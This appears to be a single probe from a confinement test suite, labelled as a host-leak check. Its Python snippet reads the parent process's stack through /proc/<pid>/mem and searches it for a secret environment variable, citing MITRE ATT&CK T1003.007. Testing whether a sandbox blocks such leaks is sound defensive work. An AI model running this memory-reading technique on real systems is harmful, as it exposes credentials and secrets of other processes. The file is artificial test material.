# id: secrets/parents-memory
# class: HostLeak
# title: Search the server's memory
# intent: Reads the stack of the parent process, where its environment lies
# success: The secret that the server was started with is in the answer
# source: MITRE ATT&CK T1003.007; proc_pid_mem(5)
# evidence: canary-env
# host: confined
try:
    parent = f"/proc/{os.getppid()}"
    with open(f"{parent}/maps") as maps, open(f"{parent}/mem", "rb") as memory:
        stack = next((line for line in maps if line.rstrip().endswith("[stack]")), None)
        if stack is None:
            raise PermissionError(errno.EACCES, "a process whose memory does not show")
        begin, end = (int(number, 16) for number in stack.split(" ")[0].split("-"))
        memory.seek(begin)
        content = memory.read(end - begin)
        at = content.find(SECRET_NAME.encode() + b"=")
        print(content[at : at + 80] if at >= 0 else "nothing")
    finished()
except OSError as error:
    stopped(error)
